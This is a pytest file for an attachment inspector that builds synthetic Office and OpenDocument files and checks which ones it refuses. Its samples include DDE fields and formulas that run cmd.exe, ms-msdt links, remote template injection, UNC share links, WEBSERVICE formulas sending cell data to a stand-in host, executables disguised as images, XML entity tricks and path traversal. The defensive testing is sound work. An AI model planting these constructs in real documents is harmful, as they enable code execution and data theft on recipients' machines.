"""Office documents: ordinary ones as programs write them pass; what runs or fetches does not, however it is spelled."""

from __future__ import annotations

import pytest
from attachment_examples import MAIN, PNG, TYPES, packed

from okrsite.sources import attachments

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def links(*found: tuple[str, str] | tuple[str, str, str]) -> str:
    listed = "".join(
        f'<Relationship Id="rId{n}" Type="{each[0] if "://" in each[0] else REL + each[0]}" Target="{each[1]}"'
        f"{' TargetMode=' + chr(34) + each[2] + chr(34) if len(each) > 2 else ''}/>"
        for n, each in enumerate(found, 1)
    )
    return f'{HEAD}<Relationships xmlns="{PACKAGE}relationships">{listed}</Relationships>'


def types(kind: str, **parts: str) -> str:
    listed = "".join(f'<Override PartName="/{name.replace("__", "/")}.xml" ContentType="{TYPES}{what}+xml"/>' for name, what in parts.items())  # fmt: skip
    return (
        f'{HEAD}<Types xmlns="{PACKAGE}content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
        f'<Override PartName="/main.xml" ContentType="{MAIN[kind]}"/>{listed}'
        f'<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>'
    )


def field(text: str, *, runs: int = 1) -> str:
    pieces = [text[n * len(text) // runs : (n + 1) * len(text) // runs] for n in range(runs)]
    said = "".join(f'<w:r><w:instrText xml:space="preserve">{each}</w:instrText></w:r>' for each in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'


CONTENTS = ' TOC \\o "1-3" \\h \\z \\u '
LINKED = " HYPERLINK &quot;https://example.org/print&quot; \\l &quot;x&quot; "


def docx(body: str = "", *, rels: str = "", **more: str | bytes) -> bytes:
    parts = {
        "[Content_Types].xml": types("docx", word__styles="wordprocessingml.styles", word__settings="wordprocessingml.settings",
            word__comments="wordprocessingml.comments", word__footnotes="wordprocessingml.footnotes", word__numbering="wordprocessingml.numbering",
            word__theme__theme1="theme", docProps__app="extended-properties"),
        "_rels/.rels": links(("officeDocument", "word/document.xml"), (f"{PACKAGE}relationships/metadata/core-properties", "docProps/core.xml"),
            ("extended-properties", "docProps/app.xml"), (f"{PACKAGE}relationships/metadata/thumbnail", "docProps/thumbnail.png")),
        "word/_rels/document.xml.rels": rels or links(("styles", "styles.xml"), ("settings", "settings.xml"), ("theme", "theme/theme1.xml"),
            ("image", "media/image1.png"), ("numbering", "numbering.xml"), ("comments", "comments.xml"), ("footnotes", "footnotes.xml"),
            ("fontTable", "fontTable.xml"), ("webSettings", "webSettings.xml"), ("header", "header1.xml"), ("customXml", "../customXml/item1.xml"),
            ("hyperlink", "https://example.org/a?b=c#d", "External"), ("hyperlink", "mailto:anna@example.org", "External"), ("hyperlink", "#here", "External"),
            ("http://schemas.microsoft.com/office/2011/relationships/people", "people.xml")),
        "word/document.xml": f'{HEAD}<w:document {W}><w:body><w:p w:rsidR="00"><w:pPr><w:framePr w:w="1"/></w:pPr><w:hyperlink r:id="rId9">'
            f'<w:r><w:t>Link, import, print, ask: include.</w:t></w:r></w:hyperlink>{field(" PAGE ")}{field(CONTENTS, runs=5)}'
            f'{field(LINKED)}<w:fldSimple w:instr=" DATE \\@ &quot;d&quot; "/>{body}</w:p></w:body></w:document>',
        **{f"word/{name}.xml": f"{HEAD}<w:x {W}/>" for name in ("styles", "settings", "theme/theme1", "numbering", "comments", "footnotes", "fontTable", "webSettings", "header1", "people")},
        "word/media/image1.png": PNG, "docProps/core.xml": "<x/>", "docProps/app.xml": "<x/>", "docProps/thumbnail.png": PNG, "customXml/item1.xml": "<x/>",
        **more,
    }  # fmt: skip
    return packed(parts)


def xlsx(sheet: str = "", book: str = "", *, rels: str = "", **more: str | bytes) -> bytes:
    return packed({
        "[Content_Types].xml": types("xlsx", xl__worksheets__sheet1="spreadsheetml.worksheet", xl__styles="spreadsheetml.styles"),
        "_rels/.rels": links(("officeDocument", "xl/workbook.xml")),
        "xl/_rels/workbook.xml.rels": rels or links(("worksheet", "worksheets/sheet1.xml"), ("styles", "styles.xml"), ("sharedStrings", "sharedStrings.xml"), ("calcChain", "calcChain.xml")),
        "xl/worksheets/_rels/sheet1.xml.rels": links(("printerSettings", "../printerSettings/printerSettings1.bin"), ("hyperlink", "https://example.org/", "External"), ("drawing", "../drawings/drawing1.xml"), ("table", "../tables/table1.xml")),
        "xl/workbook.xml": f"<workbook><sheets><sheet/></sheets><definedNames><definedName>Sheet1!$A$1:$B$2</definedName></definedNames>{book}</workbook>",
        "xl/worksheets/sheet1.xml": f"<worksheet><sheetData><row><c><f>SUM(A1:B2)&amp;HYPERLINK(\"https://example.org\",\"x\")</f><v>1</v></c><c><f>Table1[[#This Row],[a]]</f></c></row></sheetData>{sheet}</worksheet>",
        "xl/printerSettings/printerSettings1.bin": b"\\\0P\0", **{f"xl/{name}.xml": "<x/>" for name in ("styles", "sharedStrings", "calcChain", "drawings/drawing1", "tables/table1")}, **more,
    })  # fmt: skip


def pptx(slide: str = "", *, rels: str = "", **more: str | bytes) -> bytes:
    return packed({
        "[Content_Types].xml": types("pptx", ppt__slides__slide1="presentationml.slide"),
        "ppt/_rels/presentation.xml.rels": links(("slide", "slides/slide1.xml"), ("slideMaster", "slideMasters/slideMaster1.xml"), ("presProps", "presProps.xml"), ("theme", "theme/theme1.xml")),
        "ppt/slides/_rels/slide1.xml.rels": rels or links(("slideLayout", "../slideLayouts/slideLayout1.xml"), ("chart", "../charts/chart1.xml"), ("notesSlide", "../notesSlides/n1.xml"), ("hyperlink", "https://example.org", "External")),
        "ppt/charts/_rels/chart1.xml.rels": links(("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx")), "ppt/charts/chart1.xml": '<c:chart><c:externalData r:id="rId1"><c:autoUpdate val="0"/></c:externalData></c:chart>',
        "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx(),
        "ppt/slides/slide1.xml": f'<p:sld><a:hlinkClick r:id="rId4"/><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>{slide}</p:sld>', **more,
    })  # fmt: skip


OFFICE = 'xmlns:{o}="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:{t}="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:{x}="http://www.w3.org/1999/xlink"'


def odf(
    kind: str, body: str = "", prefixes: tuple[str, str, str] = ("office", "text", "xlink"), **more: str | bytes
) -> bytes:
    o, t, x = prefixes
    spaces = OFFICE.format(o=o, t=t, x=x)
    return packed({
        "mimetype": f"application/vnd.oasis.opendocument.{kind}", "META-INF/manifest.xml": "<manifest:manifest/>", "meta.xml": "<office:meta/>", "settings.xml": "<x/>", "styles.xml": "<x/>", "manifest.rdf": "<rdf:RDF/>",
        "content.xml": f'{HEAD}<{o}:document-content {spaces}><{o}:scripts/><{o}:body><{t}:p><{t}:a {x}:href="https://example.org/">link</{t}:a><{t}:a {x}:href="#here">a</{t}:a><draw:frame><draw:image {x}:href="Pictures/a.png"/></draw:frame>'
            f'<draw:object {x}:href="./Object 1"/><draw:control/>{body}</{t}:p></{o}:body></{o}:document-content>',
        "Pictures/a.png": PNG, "Thumbnails/thumbnail.png": PNG, "Object 1/content.xml": "<x/>", "ObjectReplacements/Object 1": b"VCLMTF", "layout-cache": b"\1\0", "Configurations2/accelerator/current.xml": "", **more,
    })  # fmt: skip


CHART = xlsx(rels=links(("externalLink", "externalLinks/externalLink1.xml")))
GOOD = {
    "docx": docx(), "xlsx": xlsx(), "pptx": pptx(), "odt": odf("text"), "ods": odf("spreadsheet"),
    "odp": odf("presentation", '<presentation:event-listener script:event-name="dom:click" presentation:action="next-page"/>'),
}  # fmt: skip
BAD = {
    "a field of its own": ("docx", docx(field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "))),
    "a field in many runs": ("docx", docx(field("DDEAUTO excel x", runs=11))),
    "a field in another case": ("docx", docx(field(" IncludePicture &quot;https://e.example/x.png&quot; "))),
    "a text from elsewhere": ("docx", docx(field(" INCLUDETEXT &quot;https://e.example/x&quot; "))),
    "a simple field": ("docx", docx('<w:fldSimple w:instr=" IMPORT x "/>')),
    "a field that never ends": ("docx", docx('<w:fldChar w:fldCharType="begin"/><w:instrText> LINK Excel x</w:instrText>')),
    "a field within a field": ("docx", docx('<w:fldChar w:fldCharType="begin"/><w:instrText> IF </w:instrText>' + field("DDE a b") + '<w:fldChar w:fldCharType="end"/>')),
    "a field without marks": ("docx", docx("<q:instrText>DDE a</q:instrText>")),
    "a link in a field": ("docx", docx(field(' HYPERLINK &quot;ms-msdt:/id x&quot; '))),
    "a share in a field": ("docx", docx(field(" HYPERLINK \\\\\\\\evil\\\\x "))),
    "ms-msdt": ("docx", docx(rels=links(("hyperlink", "ms-msdt:/id PCWDiagnostic", "External")))),
    "a file": ("docx", docx(rels=links(("hyperlink", "file:///c:/windows/calc.exe", "External")))),
    "a share": ("docx", docx(rels=links(("hyperlink", "\\\\evil\\x", "External")))),
    "a script": ("docx", docx(rels=links(("hyperlink", " JavaScript:x", "External")))),
    "a user before the host": ("docx", docx(rels=links(("hyperlink", "https://good.example@evil.example", "External")))),
    "mhtml": ("docx", docx(rels=links(("oleObject", "mhtml:https://e.example/x!x-usc:https://e.example", "External")))),
    "a template": ("docx", docx(rels=links(("attachedTemplate", "https://e.example/x.dotm", "External")))),
    "a template in the document": ("docx", docx(rels=links(("attachedTemplate", "x.xml")))),
    "no mode": ("docx", docx(rels=links(("image", "https://e.example/x.png")))),
    "a kind of somebody's own": ("docx", docx(rels=links(("https://e.example/relationships/image", "x.png")))),
    "a strict template": ("docx", docx(rels=links(("http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate", "//e/x", "External")))),
    "a part of another format": ("docx", docx(rels=links(("aFChunk", "x.xml")))),
    "an object": ("docx", docx('<w:object><o:OLEObject Type="Embed" ProgID="Package"/></w:object>')),
    "an object by another prefix": ("docx", docx("<zz:OLEObject/>")),
    "a picture of VML": ("docx", docx('<v:imagedata src="https://e.example/x.png"/>')),
    "a choice": ("docx", docx("<mc:AlternateContent><mc:Choice><w:altChunk/></mc:Choice></mc:AlternateContent>")),
    "a program as a picture": ("docx", docx(word__media="", **{"word/media/a.png": b"MZ\x90\0" + bytes(99)})),
    "an old document as settings": ("xlsx", xlsx(**{"xl/printerSettings/printerSettings2.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})),
    "a part of no kind": ("docx", docx(**{"word/media/a.bin": b"x"})),
    "a part that runs, by its kind": ("docx", docx(**{"[Content_Types].xml": types("docx").replace("</Types>", '<Override PartName="/a.xml" ContentType="application/vnd.ms-word.vbaData+xml"/></Types>')})),
    "a page among the kinds": ("docx", docx(**{"[Content_Types].xml": types("docx").replace("image/png", "text/html")})),
    "another workbook": ("xlsx", CHART),
    "a conversation": ("xlsx", xlsx("<ddeLink ddeService='cmd' ddeTopic='/c calc'/>")),
    "connections": ("xlsx", xlsx(rels=links(("connections", "connections.xml")))),
    "a question to the web": ("xlsx", xlsx("<webPr url='https://e.example'/>")),
    "a formula that fetches": ("xlsx", xlsx("<c><f>WEBSERVICE(\"https://e.example/\"&amp;A1)</f></c>")),
    "a formula that calls": ("xlsx", xlsx("<c><f>cmd|' /C calc'!A0</f></c>")),
    "a formula of another workbook": ("xlsx", xlsx("<c><f>[1]Sheet1!A1</f></c>")),
    "an extension": ("xlsx", xlsx(rels=links(("http://schemas.microsoft.com/office/2011/relationships/webextension", "x.xml")))),
    "buttons": ("xlsx", xlsx(rels=links(("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "x.xml")))),
    "a click that runs": ("pptx", pptx('<a:hlinkClick r:id="rId4" action="ppaction://program"/>')),
    "a macro by a click": ("pptx", pptx('<a:hlinkClick r:id="" action="ppaction://macro?name=x"/>')),
    "a film from elsewhere": ("pptx", pptx(rels=links(("video", "https://e.example/x.mp4", "External")))),
    "a chart that runs": ("pptx", pptx(**{"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": CHART})),
    "a listener by another prefix": ("odt", odf("text", '<s:event-listener s:language="ooo:script" x:href="vnd.sun.star.script:x"/>', ("o", "t", "x"))),
    "a picture by another prefix": ("odt", odf("text", '<d:image q:href="https://e.example/x"/>', ("a", "b", "q"))),
    "an object by its own file": ("odt", odf("text", '<draw:object-ole xlink:href="./Object 2"/>')),
    "a section": ("odt", odf("text", '<text:section-source xlink:href="other.odt"/>')),
    "beside the document": ("odt", odf("text", '<draw:image xlink:href="../secret.png"/>')),
    "a link to a macro": ("odt", odf("text", '<text:a xlink:href="macro:///x"/>')),
    "a link to a script": ("odt", odf("text", '<text:a xlink:href="vnd.sun.star.script:x?language=Basic"/>')),
    "a frame": ("odt", odf("text", '<draw:floating-frame xlink:href="x.html"/>')),
    "a click": ("odp", odf("presentation", '<presentation:event-listener presentation:action="execute" xlink:href="cmd.exe"/>')),
    "a formula": ("ods", odf("spreadsheet", '<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://e.example&quot;)"/>')),
    "a conversation of tables": ("ods", odf("spreadsheet", "<table:dde-link/>")),
    "a listener in a chart": ("odt", odf("text", **{"Object 1/content.xml": "<script:event-listener/>"})),
    "a file from styles": ("odt", odf("text", **{"styles.xml": '<x><style:background-image xlink:href="https://e.example/x"/></x>'})),
    "a script of its own": ("odt", odf("text", '<office:script script:language="ooo:Basic"/>')),
    "an archive as a picture": ("odt", odf("text", **{"Pictures/b.png": b"Rar!\x1a\x07"})),
}  # fmt: skip
BROKEN = {
    "a document type": docx(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    "an entity from elsewhere": docx(**{"word/styles.xml": '<!DOCTYPE a SYSTEM "https://e.example/x"><a/>'}),
    "UTF-16": docx(**{"word/document.xml": "<w:instrText>DDE a</w:instrText>".encode("utf-16")}),
    "UTF-16 by its word": docx(**{"word/document.xml": b'<?xml version="1.0" encoding="UTF-16"?><a/>'}),
    "UTF-7": docx(**{"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'}),
    "another coding": docx(**{"word/document.xml": b'<?xml version="1.0" encoding="IBM037"?><a/>'}),
    "an instruction": docx(**{"word/document.xml": '<?xml-stylesheet href="https://e.example/x"?><a/>'}),
    "no XML": docx(**{"word/document.xml": "<a"}),
    "too deep": docx(**{"word/document.xml": "<a>" * 5000 + "</a>" * 5000}),
    "parents": docx(**{"../x.xml": "<a/>"}),
    "a root": docx(**{"/x.xml": "<a/>"}),
    "a drive": docx(**{"c:x.xml": "<a/>"}),
    "backslashes": docx(**{"..\\x.xml": "<a/>"}),
}


@pytest.fixture
def refused(tmp_path):
    def look(kind: str, data: bytes) -> attachments.AttachmentRefusal | None:
        (tmp_path / f"file.{kind}").write_bytes(data)
        return attachments.inspect_attachment(tmp_path / f"file.{kind}", kind)

    return look


@pytest.mark.parametrize("kind", GOOD)
def test_a_document_as_programs_write_it_is_published(refused, kind):
    assert refused(kind, GOOD[kind]) is None


@pytest.mark.parametrize("what", BAD)
def test_what_runs_or_fetches_is_refused_however_it_is_spelled(refused, what):
    found = refused(*BAD[what])
    assert found is not None and (found.code, bool(found.hint)) == ("OKR122", True)


@pytest.mark.parametrize("what", BROKEN)
def test_what_is_no_part_that_a_program_writes_is_refused(refused, what):
    found = refused("docx", BROKEN[what])
    assert found is not None and found.code == "OKR121" and found.hint


def test_the_name_of_a_part_in_two_places_of_the_archive_is_one_name(refused):
    data = docx()
    at = data.index(b"word/styles.xml")
    found = refused("docx", data[:at] + b"word/stylex.xml" + data[at + 15 :])
    assert found is not None and found.code == "OKR121"
